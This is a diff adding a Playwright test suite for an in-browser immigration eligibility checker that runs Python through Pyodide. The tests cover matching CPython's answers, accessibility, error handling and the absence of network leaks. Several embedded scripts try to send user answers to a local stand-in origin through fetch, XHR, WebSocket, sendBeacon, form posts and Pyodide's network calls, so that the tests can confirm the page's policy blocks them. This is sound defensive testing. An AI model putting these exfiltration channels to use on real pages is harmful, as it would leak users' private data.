@@ -1,0 +1,389 @@
+"""The checker in a real browser: same answers as CPython, a person's way through, no way out."""
+
+import json
+import re
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from functools import partial
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
+
+from checker.pathways import PATHWAYS
+from tests.checker_cases import all_cases, answers_of_wheel
+
+# Starting Python on a busy machine takes seconds; a person would wait as long.
+START = 60_000
+
+ASK_ALL = """async (messages) => {
+  const { Checker } = await import(document.querySelector("script[src*=checker]").src
+    .replace("page.mjs", "client.mjs"));
+  const { worker, pyodide, checker: files } = document.getElementById("checker").dataset;
+  const checker = new Checker({ worker, pyodide, checker: files });
+  return Promise.all(messages.map((message) => {
+    const { answers, on } = JSON.parse(message);
+    return checker.ask(answers, on);
+  }));
+}"""
+
+
+@contextmanager
+def running(handler: Callable[..., BaseHTTPRequestHandler]) -> Iterator[str]:
+    """Serve on a free port; yield the address."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+class Quiet(SimpleHTTPRequestHandler):
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def bare_server(site: Path) -> Iterator[str]:
+    """Serve the site as a host that sends no policy header: the page's own must be enough."""
+    with running(partial(Quiet, directory=str(site))) as address:
+        yield address
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Run another origin that takes anything from anybody, and note what reaches it."""
+    heard: list[str] = []
+
+    class Ear(Quiet):
+        def handle_one_request(self) -> None:
+            heard.append(self.rfile.readline().decode())
+            self.wfile.write(
+                b"HTTP/1.0 200 OK\r\nAccess-Control-Allow-Origin: *\r\n"
+                b"Content-Type: text/javascript\r\n\r\n"
+            )
+            self.close_connection = True
+
+    with running(Ear) as address:
+        yield address, heard
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    context = browser.new_context()
+    yield context
+    context.close()
+
+
+@pytest.fixture
+def page(context: BrowserContext) -> Page:
+    return context.new_page()
+
+
+def answer(page: Page, question: str, value: str) -> None:
+    page.get_by_role("group", name=question).get_by_label(value, exact=True).check()
+
+
+def test_the_browser_answers_like_cpython(
+    page: Page, server: str, site: Path, tmp_path: Path
+) -> None:
+    page.goto(f"{server}/checker/")
+    messages = [case.message for case in all_cases()]
+    replies = page.evaluate(ASK_ALL, messages)
+    path = page.locator("#checker").get_attribute("data-checker")
+    assert path
+    in_cpython = answers_of_wheel(site / path.strip("/"), tmp_path, messages)
+    for case, reply, other in zip(all_cases(), replies, in_cpython, strict=True):
+        assert reply == json.loads(other), case.id
+
+
+def test_a_person_finds_a_verdict_and_changes_an_answer(page: Page, server: str) -> None:
+    asked: list[str] = []
+    faults: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("pageerror", lambda error: faults.append(str(error)))
+    page.goto(f"{server}/checker/")
+    page.wait_for_load_state("networkidle")
+    assert not [url for url in asked if "/pyodide/" in url], "Pyodide came before it was wanted"
+
+    page.get_by_label("Decide for this day").fill("2026-11-22")
+    expect(page.get_by_role("status")).to_have_text(re.compile("ready|unknown"), timeout=START)
+    answer(page, "Are you a Canadian citizen", "No")
+    expect(page.get_by_role("status")).to_have_text(re.compile("TEER 0–3: unknown"), timeout=START)
+    page.get_by_label("What is the occupation of the offered job").fill("64100")
+    expect(page.get_by_role("status")).to_have_text(re.compile("TEER 0–3: not met"))
+    occupation = page.locator(".requirement", has=page.get_by_role("heading", name="Occupation"))
+    expect(occupation).to_contain_text("is TEER 4")
+    occupation.get_by_text("Rules and sources").click()
+    rule = occupation.locator(".rule")
+    expect(rule).to_contain_text("OWP03-02")
+    expect(rule).to_contain_text("How we know: official text read in a third-party copy.")
+    expect(rule.get_by_role("link").first).to_have_attribute("rel", "external noreferrer")
+
+    before = len(asked)
+    page.get_by_label("What is the occupation of the offered job").fill("72310")
+    expect(page.get_by_role("status")).to_have_text(re.compile("TEER 0–3: unknown"))
+    expect(occupation).to_contain_text("NOC 72310 (Carpenters) is TEER 2")
+    assert rule.is_visible(), "what the reader opened stays open"
+    assert asked[before:] == [], "answers need no network"
+    assert {url.removeprefix(server)[0] for url in asked if not url.startswith("blob:")} == {"/"}
+    assert faults == []
+
+
+def test_every_criterion_is_shown_with_a_word_and_a_way_to_its_question(
+    page: Page, server: str
+) -> None:
+    page.goto(f"{server}/checker/")
+    answer(page, "Do you live in Canada now?", "No")
+    expect(page.locator("#checker-results .stream")).to_be_visible(timeout=START)
+    for pathway in PATHWAYS:
+        for rule in pathway.rules():
+            shown = page.locator("#checker-results .rule", has_text=rule.id)
+            expect(shown).to_have_count(1)
+            expect(shown).to_contain_text(rule.says)
+    in_canada = page.locator(
+        ".requirement", has=page.get_by_role("heading", name="Status in Canada")
+    )
+    expect(in_canada.get_by_role("heading")).to_have_text("not applicable Status in Canada")
+    page.get_by_role("link", name="not answered: Do you have a job offer in Ontario?").first.click()
+    expect(page.locator("#question-has_job_offer")).to_be_in_viewport()
+
+
+def test_an_unknown_occupation_is_said_beside_its_field(page: Page, server: str) -> None:
+    page.goto(f"{server}/checker/")
+    field = page.get_by_label("What is the occupation of the offered job")
+    answer(page, "Are you a Canadian citizen", "Yes")
+    field.fill("99999")
+    fault = page.locator("#fault-offer_noc")
+    expect(fault).to_contain_text("five digits", timeout=START)
+    expect(field).to_have_attribute("aria-invalid", "true")
+    assert "fault-offer_noc" in (field.get_attribute("aria-describedby") or "")
+    expect(page.get_by_role("status")).to_have_text(re.compile("not met"))
+    field.fill("72310")
+    expect(fault).to_be_hidden()
+    expect(field).to_have_attribute("aria-invalid", "false")
+
+
+def test_answers_can_be_cleared(page: Page, server: str) -> None:
+    page.goto(f"{server}/checker/")
+    answer(page, "Are you a Canadian citizen", "Yes")
+    expect(page.get_by_role("status")).to_have_text(re.compile("not met"), timeout=START)
+    page.get_by_role("button", name="Clear my answers").click()
+    expect(page.get_by_role("status")).to_have_text("Your answers are cleared.")
+    expect(page.locator("#checker-results")).to_be_empty()
+    citizen = page.get_by_role("group", name="Are you a Canadian citizen")
+    expect(citizen.get_by_label("I don't know")).to_be_checked()
+
+
+def test_the_form_works_by_keyboard_and_never_leaves_the_page(page: Page, server: str) -> None:
+    page.goto(f"{server}/checker/")
+    page.get_by_label("Decide for this day").focus()
+    citizen = page.get_by_role("group", name="Are you a Canadian citizen")
+    while not citizen.locator("input:focus").count():
+        page.keyboard.press("Tab")
+    page.keyboard.press("ArrowUp")
+    page.keyboard.press("ArrowUp")
+    expect(citizen.get_by_label("Yes")).to_be_checked()
+    page.get_by_label("What is the occupation of the offered job").press("Enter")
+    expect(page.get_by_role("status")).to_have_text(re.compile("not met"), timeout=START)
+    assert page.url == f"{server}/checker/"
+
+
+def test_wasm_that_does_not_come_can_be_asked_for_again(
+    context: BrowserContext, page: Page, server: str
+) -> None:
+    context.route("**/*.wasm", lambda route: route.abort())
+    page.goto(f"{server}/checker/")
+    answer(page, "Are you a Canadian citizen", "Yes")
+    expect(page.get_by_role("status")).to_contain_text("could not be loaded", timeout=START)
+    citizen = page.get_by_role("group", name="Are you a Canadian citizen")
+    expect(citizen.get_by_label("Yes")).to_be_checked()
+    expect(page.locator("#rules")).to_contain_text(next(PATHWAYS[0].rules()).says)
+    context.unroute("**/*.wasm")
+    page.get_by_role("button", name="Try again").click()
+    expect(page.get_by_role("status")).to_have_text(re.compile("not met"), timeout=START)
+    expect(page.get_by_role("button", name="Try again")).to_be_hidden()
+
+
+def test_a_policy_that_bars_wasm_is_no_endless_wait(page: Page, bare_server: str) -> None:
+    # loadPyodide alone would never settle here.
+    def without_wasm(route: Route) -> None:
+        response = route.fetch()
+        route.fulfill(response=response, body=response.text().replace("'wasm-unsafe-eval'", ""))
+
+    page.route("**/checker/", without_wasm)
+    page.goto(f"{bare_server}/checker/")
+    answer(page, "Are you a Canadian citizen", "Yes")
+    expect(page.get_by_role("status")).to_contain_text("could not be loaded", timeout=START)
+
+
+def test_a_silent_worker_is_given_up_and_the_next_question_starts_anew(
+    context: BrowserContext, page: Page, server: str
+) -> None:
+    held: list[Route] = []
+
+    def hold(route: Route) -> None:
+        held.append(route)
+
+    context.route("**/*.wasm", hold)
+    page.goto(f"{server}/checker/")
+    ask = ASK_ALL.replace("files });", "files }, { patience: 5000 });").replace(
+        "return Promise.all",
+        "const one = await checker.ask({}, '2026-11-22').catch((error) => error.constructor.name);"
+        "await go(one); return Promise.all",
+    )
+    given_up: list[str] = []
+
+    def go(first: str) -> None:
+        given_up.append(first)
+        context.unroute("**/*.wasm")
+
+    page.expose_function("go", go)
+    (reply,) = page.evaluate(ask, ['{"answers": {}, "on": "2026-11-22"}'])
+    assert given_up == ["CheckerFailed"]
+    assert held
+    assert reply["report"]["streams"]
+
+
+ATTEMPTS_IN_JAVASCRIPT = """async ([other, pyodide]) => {
+  const outcome = (promise) => promise.then(() => "sent", () => "blocked");
+  const socket = (Kind) => new Promise((open, fail) => {
+    const made = new Kind(other.replace("http", Kind === WebSocket ? "ws" : "http"));
+    made.onopen = open;
+    made.onerror = fail;
+  });
+  const xhr = () => new Promise((load, fail) => {
+    const request = new XMLHttpRequest();
+    request.onload = load;
+    request.onerror = fail;
+    request.open("POST", `${other}/xhr`);
+    request.send("answers");
+  });
+  return {
+    fetch: await outcome(fetch(`${other}/fetch?answers`)),
+    no_cors: await outcome(fetch(`${other}/no-cors`, { mode: "no-cors", method: "POST" })),
+    xhr: await outcome(xhr()),
+    socket: await outcome(socket(WebSocket)),
+    events: await outcome(socket(EventSource)),
+    module: await outcome(import(`${other}/module.mjs`)),
+  };
+}"""
+
+ATTEMPTS_IN_PYTHON = """async ([other, pyodide]) => {
+  const { loadPyodide } = await import(`${pyodide}pyodide.mjs`);
+  const python = await loadPyodide({
+    indexURL: pyodide,
+    lockFileContents: { info: { abi_version: "2025_0" }, packages: {} },
+  });
+  python.globals.set("other", other);
+  return python.runPythonAsync(`
+import js
+from pyodide.http import open_url, pyfetch
+
+async def outcome(attempt):
+    try:
+        await attempt()
+    except BaseException:
+        return "blocked"
+    return "sent"
+
+async def by_open_url():
+    open_url(other + "/python-open-url")
+
+async def by_urllib():
+    from urllib.request import urlopen
+    urlopen(other + "/python-urllib")
+
+" ".join([
+    await outcome(lambda: js.fetch(other + "/python-js")),
+    await outcome(lambda: pyfetch(other + "/python-fetch")),
+    await outcome(by_open_url),
+    await outcome(by_urllib),
+])`);
+}"""
+
+
+def test_nothing_gets_out_of_the_worker(
+    page: Page, bare_server: str, elsewhere: tuple[str, list[str]]
+) -> None:
+    other, heard = elsewhere
+    page.goto(f"{bare_server}/checker/")
+    answer(page, "Are you a Canadian citizen", "Yes")
+    expect(page.get_by_role("status")).to_have_text(re.compile("not met"), timeout=START)
+    pyodide = bare_server + (page.locator("#checker").get_attribute("data-pyodide") or "")
+    (worker,) = page.workers
+    assert worker.url.startswith("blob:"), "the page's policy binds no worker from an address"
+    tried = worker.evaluate(ATTEMPTS_IN_JAVASCRIPT, [other, pyodide])
+    assert len(tried) == 6
+    assert set(tried.values()) == {"blocked"}
+    assert (
+        worker.evaluate(ATTEMPTS_IN_PYTHON, [other, pyodide]) == "blocked blocked blocked blocked"
+    )
+    assert heard == []
+
+
+def test_nothing_gets_out_of_the_page_either(
+    page: Page, bare_server: str, elsewhere: tuple[str, list[str]]
+) -> None:
+    other, heard = elsewhere
+    page.goto(f"{bare_server}/checker/")
+    tried = page.evaluate(ATTEMPTS_IN_JAVASCRIPT, [other, ""])
+    assert set(tried.values()) == {"blocked"}
+    page.evaluate(
+        """async (other) => {
+          new Image().src = `${other}/image`;
+          navigator.sendBeacon(`${other}/beacon`, "answers");
+          const form = document.createElement("form");
+          Object.assign(form, { method: "post", action: `${other}/form` });
+          document.body.append(form);
+          form.submit();
+          await new Promise((done) => setTimeout(done, 500));
+        }""",
+        other,
+    )
+    assert heard == []
+
+
+def test_the_same_attempts_are_heard_where_no_policy_binds(
+    page: Page, bare_server: str, elsewhere: tuple[str, list[str]]
+) -> None:
+    other, heard = elsewhere
+    page.goto(f"{bare_server}/robots.txt")
+    tried = page.evaluate(ATTEMPTS_IN_JAVASCRIPT, [other, ""])
+    assert {tried[name] for name in ("fetch", "no_cors", "xhr", "module")} == {"sent"}
+    assert heard
+
+
+def test_without_javascript_every_rule_is_on_the_page(browser: Browser, server: str) -> None:
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    page.goto(f"{server}/checker/")
+    expect(page.locator("noscript p")).to_be_visible()
+    expect(page.locator("#checker")).to_be_hidden()
+    rules = page.locator("#rules")
+    for rule in PATHWAYS[0].rules():
+        shown = rules.locator(".rule", has_text=rule.id)
+        expect(shown).to_be_visible()
+        expect(shown).to_contain_text(rule.says)
+        expect(shown).to_contain_text(f"How we know: {rule.citation.standing.value}.")
+        expect(shown.get_by_role("listitem")).to_have_count(len(rule.citation.sources))
+    context.close()
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_it_fits_a_narrow_window(browser: Browser, server: str, scheme: str) -> None:
+    context = browser.new_context(
+        viewport={"width": 320, "height": 640}, color_scheme="dark" if scheme == "dark" else "light"
+    )
+    page = context.new_page()
+    page.goto(f"{server}/checker/")
+    answer(page, "Are you a Canadian citizen", "Yes")
+    expect(page.get_by_role("status")).to_have_text(re.compile("not met"), timeout=START)
+    for summary in page.get_by_text("Rules and sources").all():
+        summary.click()
+    assert page.evaluate("document.documentElement.scrollWidth") <= 320
+    context.close()
